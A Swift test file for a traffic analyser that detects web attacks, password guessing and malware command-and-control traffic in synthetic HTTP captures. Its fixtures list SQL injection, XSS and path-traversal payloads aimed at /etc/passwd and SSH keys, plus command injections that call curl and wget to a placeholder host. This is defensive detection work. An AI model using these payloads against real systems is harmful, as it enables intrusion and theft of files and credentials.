import BlotterFindings
import BlotterTestSupport
import Testing

/// What is sent to websites: the payloads of the Web Security Testing Guide (OWASP, WSTG-INPV) and what each of them is,
/// innocent values that use the same words, and passwords tried on pages.
@Suite struct WebWordsTests {
  /// Requests of one client on one connection each, with their answers.
  private func document(
    _ requests: [(String, String)], client: (Int) -> String = { _ in "203.0.113.5" }, server: String = "192.168.7.9:80"
  ) throws -> FindingsDocument {
    var capture = CaptureBuilder()
    for (number, (request, answer)) in requests.enumerated() {
      capture.talk(
        "\(client(number)):\(40_000 + number)", server, [.client(request), .server(answer)])
      capture.wait(0.5)
    }
    return try findings(capture.bytes)
  }

  private func get(_ target: String) -> String {
    "GET \(target) HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11)\r\n\r\n"
  }

  private func answer(_ status: String = "200 OK", _ more: String = "", _ body: String = "ok") -> String {
    "HTTP/1.1 \(status)\r\n\(more)Content-Type: text/html\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)"
  }

  private func percent(_ text: String) -> String {
    text.utf8.map { byte in
      let isPlain = 0x30...0x39 ~= byte || 0x41...0x5a ~= byte || 0x61...0x7a ~= byte
      return isPlain
        ? String(UnicodeScalar(byte)) : "%" + (byte < 16 ? "0" : "") + String(byte, radix: 16, uppercase: true)
    }.joined()
  }

  @Test(
    arguments: [
      ("http-sql-injection", "1 union all select (1),2,3", "UNION SELECT"),
      ("http-sql-injection", "x' union select * from users", "UNION SELECT"),
      ("http-sql-injection", "1/*!50000union*/ select null", "UNION SELECT"),
      ("http-sql-injection", "1 union/**/select", "UNION SELECT"),
      ("http-sql-injection", "x' or 1=1", "a condition that is always true or false"),
      ("http-sql-injection", "x' or not (1=2)", "a condition that is always true or false"),
      ("http-sql-injection", "x') and 'a' like 'a", "a condition that is always true or false"),
      ("http-sql-injection", "1 || true<>2", "a condition that is always true or false"),
      ("http-sql-injection", "1; waitfor delay '0:0:5'", "a function that waits"),
      ("http-sql-injection", "1 and sleep(5)", "a function that waits"),
      ("http-sql-injection", "1 or benchmark((1),2)", "a function that waits"),
      ("http-sql-injection", "1); drop table users", "a second statement"),
      ("http-sql-injection", "x'; exec master", "a second statement"),
      ("http-sql-injection", "1 and extractvalue(1,2)", "a query of the schema or of files"),
      ("http-sql-injection", "exec xp_cmdshell 'dir'", "a query of the schema or of files"),
      ("http-sql-injection", "admin'-- -", "a quotation mark and a comment that cuts the statement off"),
      ("http-sql-injection", "admin' #", "a quotation mark and a comment that cuts the statement off"),
      ("http-sql-injection", "1' order by 3", "a quotation mark and a comment that cuts the statement off"),
      ("http-command-injection", "127.0.0.1; cat /etc/passwd", nil),
      ("http-command-injection", "x|whoami", "the command whoami behind a shell's separator"),
      (
        "http-command-injection", "x`/usr/bin/curl http://203.0.113.7/a`", "the command curl behind a shell's separator"
      ),
      ("http-command-injection", "x$(wget${ifs}203.0.113.7)", "the command wget behind a shell's separator"),
      ("http-command-injection", "10.0.0.1&&id", "the command id behind a shell's separator"),
      ("http-command-injection", "x\nuname -a", "the command uname behind a shell's separator"),
      ("http-command-injection", "x|nice /bin/sh -c id", "a shell's command line"),
      ("http-directory-traversal", "..;/..;/..;/manager", "3-fold ../"),
      ("http-directory-traversal", #"..\..\windows\system32\x"#, "2-fold ../ to windows/system32"),
      ("http-directory-traversal", "file:///etc/passwd", "the file etc/passwd"),
      ("http-directory-traversal", "php://filter/convert.base64-encode", "a wrapper of PHP that reads files"),
      ("http-xss", "<script>alert(1)</script>", "a script element"),
      ("http-xss", "<svg/onload=alert(1)>", "an event handler in a tag"),
      ("http-xss", "<a href='javascript:x'>", "a javascript: address in a tag"),
      ("http-xss", "javascript:alert(1)", "a javascript: address"),
      ("http-xss", "\" onmouseover=alert(1) x=\"", "an event handler that breaks out of an attribute"),
    ] as [(String, String, String?)])
  func namesWhatIsSent(kind: String, value: String, form: String?) throws {
    let document = try document([(get("/search?q=" + percent(value)), answer())])
    let finding = try #require(document.findings.first { $0.kind == kind }, "\(document.findings.map(\.kind))")
    #expect(finding.facts["places"] == .strings(["parameter q"]))
    if let form { #expect(finding.facts["forms"] == .strings([form])) }
    #expect(finding.severity == .medium)
  }

  /// Words of the languages in sentences, lists that use a shell's separators, statements for an interface that takes
  /// them, a relative link, a name with an apostrophe.
  @Test(arguments: [
    "western union select committee meets", "rock and roll or jazz", "select name from cities", "cats;dogs;cat",
    "name|id",
    "sleep(5) in python", "it's; execute the plan", "O'Brien", "../images/logo.png", "how to drop table salt",
    "union (workers) select", "fish & chips", "3 < 4 or 4 > 3", "a; b; cd collection", "5' order by weight",
    "information_schema. what is it", "tables | chairs and more", "<b>bold</b>",
  ])
  func leavesWordsAlone(value: String) throws {
    let kinds = try document([(get("/search?q=" + percent(value)), answer())]).findings.compactMap(\.kind)
    #expect(!kinds.contains { $0.hasPrefix("http-") && $0 != "http-client-error" }, "\(kinds)")
  }

  /// What an answer shows of a command that ran, or of a file, makes the finding critical.
  @Test(
    arguments: [
      ("x|id", "uid=33(www-data) gid=33(www-data)", "http-command-injection"),
      ("x&&dir c:\\", " Volume Serial Number is 1234-5678", "http-command-injection"),
      ("x&&ipconfig", "Windows IP Configuration", "http-command-injection"),
      ("x;ifconfig", "inet addr:192.168.7.9", "http-command-injection"),
      ("../../../../etc/passwd", "root:x:0:0:root:/root:/bin/bash", "http-directory-traversal"),
      ("../../../boot.ini", "[boot loader]", "http-directory-traversal"),
      ("../../../win.ini", "; for 16-bit app support", "http-directory-traversal"),
      ("../../../.ssh/id_rsa", "-----BEGIN RSA PRIVATE KEY-----", "http-directory-traversal"),
      ("../../../wp-config.php", "define('DB_PASSWORD', 'x')", "http-directory-traversal"),
    ] as [(String, String, String)])
  func weighsWhatTheAnswerShows(value: String, body: String, kind: String) throws {
    let value = kind == "http-command-injection" && value == "x|id" ? "127.0.0.1|id" : value
    let document = try document([(get("/run?f=" + percent(value)), answer("200 OK", "", body))])
    let finding = try #require(document.findings.first { $0.kind == kind }, "\(document.findings.map(\.kind))")
    #expect(finding.severity == .critical && finding.facts["succeeded"] == .int(1))
  }

  /// A stray quotation mark is one only where the database complains; an error shows that the statement broke.
  @Test func weighsAStrayQuotationMarkByTheAnswer() throws {
    let probe = get("/item?id=7%27")
    let quiet = try document([(probe, answer())]).findings
    #expect(!quiet.contains { $0.kind == "http-sql-injection" })
    let loud = try document([
      (probe, answer("500 Internal Server Error", "", "You have an error in your SQL syntax near ''7'''"))
    ])
    let finding = try #require(loud.findings.first { $0.kind == "http-sql-injection" })
    #expect(finding.facts["forms"] == .strings(["a stray quotation mark"]))
    #expect(finding.facts["proofs"] == .strings(["a database error"]))
  }

  /// In a cookie, in a header, and in a form.
  @Test func namesThePlaceOfAnInjection() throws {
    let head = "HTTP/1.1\r\nHost: shop.example\r\n"
    let body = "name=x%27+or+1%3D1"
    let places = try document([
      ("GET / \(head)Cookie: a=1; id=x'%20or%201=1\r\n\r\n", answer()),
      ("GET /b \(head)User-Agent: x' or 1=1\r\n\r\n", answer()),
      (
        "POST /c \(head)Content-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.utf8.count)\r\n\r\n"
          + body, answer()
      ),
    ])
    let finding = try #require(places.findings.first { $0.kind == "http-sql-injection" })
    #expect(finding.facts["places"] == .strings(["cookie", "header user-agent", "form field name"]))
  }

  // MARK: Passwords on pages

  private func form(_ user: String, _ password: String) -> String {
    let body = "user=\(user)&password=\(password)"
    return
      "POST /login HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11)\r\nContent-Type: "
      + "application/x-www-form-urlencoded\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)"
  }

  private func guessing(_ document: FindingsDocument) throws -> Finding {
    try #require(document.findings.first { $0.kind == "brute-force-http" }, "\(document.findings.map(\.kind))")
  }

  /// RFC 7616: the answer to a challenge differs with each password, and 401 denies it.
  @Test func readsDigests() throws {
    let finding = try guessing(
      document(
        (0..<8).map { number in
          (
            "GET /admin HTTP/1.1\r\nHost: shop.example\r\nAuthorization: Digest username=\"frieda\", realm=\"x\", "
              + "nonce=\"n\", uri=\"/admin\", response=\"6629fae49393a0539745097850\(number)\"\r\n\r\n",
            number == 7 ? answer() : answer("401 Unauthorized", "WWW-Authenticate: Digest realm=\"x\"\r\n")
          )
        }))
    #expect(finding.facts["method"] == .string("Digest"))
    #expect(finding.facts["accounts"] == .strings(["frieda"]))
    #expect(finding.facts["succeeded"] == .int(1) && finding.severity == .high)
  }

  /// A form that is refused by the way back to it, and lets in with another answer or to another page.
  @Test(arguments: [("302 Found", "Location: /home\r\n"), ("200 OK", "Set-Cookie: session=1\r\n")])
  func tellsTheWayIn(status: String, welcome: String) throws {
    let finding = try guessing(
      document(
        (0..<9).map { number in
          (
            form("frieda", "secret\(number)"),
            number == 8 ? answer(status, welcome, "") : answer("302 Found", "Location: /login?error=1\r\n", "")
          )
        }))
    #expect(finding.facts["passwords"] == .int(8) && finding.facts["failed"] == .int(8))
    #expect(finding.facts["succeeded"] == .int(1) && finding.severity == .high)
  }

  /// One password for ten accounts, where the answers say that it is wrong.
  @Test func tellsOnePasswordForManyAccounts() throws {
    let finding = try guessing(
      document(
        (0..<10).map { (form("user\($0)", "Autumn2026"), answer("302 Found", "Location: /login?failed\r\n", "")) }))
    #expect(finding.facts["passwords"] == .int(1))
    #expect(finding.title.contains("for 10 accounts"))
  }

  /// Seven clients that try one password each for one account.
  @Test func joinsClientsThatShareTheWork() throws {
    let finding = try guessing(
      document(
        (0..<7).map { (form("frieda", "secret\($0)"), answer("403 Forbidden")) }, client: { "203.0.113.\(10 + $0)" }))
    #expect(finding.facts["sources"] == .int(7) && finding.facts["single_source"] == .bool(false))
    #expect(finding.title.contains("7 clients try 7 passwords"))
  }

  // MARK: Orders from outside

  /// Five odd things at once: a bare address outside, POST, a port that is none of the web's, a random path, a browser of
  /// 2001. Four of them are a device's report.
  @Test func tellsAProgramThatTakesOrders() throws {
    func post(_ path: String, _ agent: String) -> String {
      "POST \(path) HTTP/1.1\r\nHost: 203.0.113.66:4433\r\nUser-Agent: \(agent)\r\nContent-Length: 4\r\n\r\nabcd"
    }
    let old = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
    let found = try document(
      (0..<3).map { _ in (post("/Ab3xY9Qw7LmN0p/", old), answer()) }, client: { _ in "192.168.7.20" },
      server: "203.0.113.66:4433")
    let finding = try #require(found.findings.first { $0.kind == "malware-c2" }, "\(found.findings.map(\.kind))")
    #expect(finding.techniques == ["T1071.001", "T1571"])
    #expect(finding.facts["requests"] == .int(3) && finding.facts["form"] == .string("http"))
    #expect(
      finding.facts["signs"]
        == .strings([
          "POST", "address outside", "an address in place of a name", "no web port", "odd client name", "random path",
        ]))
    let report = try document(
      [(post("/report", "Meter/1.0 (board 7)"), answer())], client: { _ in "192.168.7.20" },
      server: "203.0.113.66:4433")
    #expect(!report.findings.contains { $0.kind == "malware-c2" })
  }
}
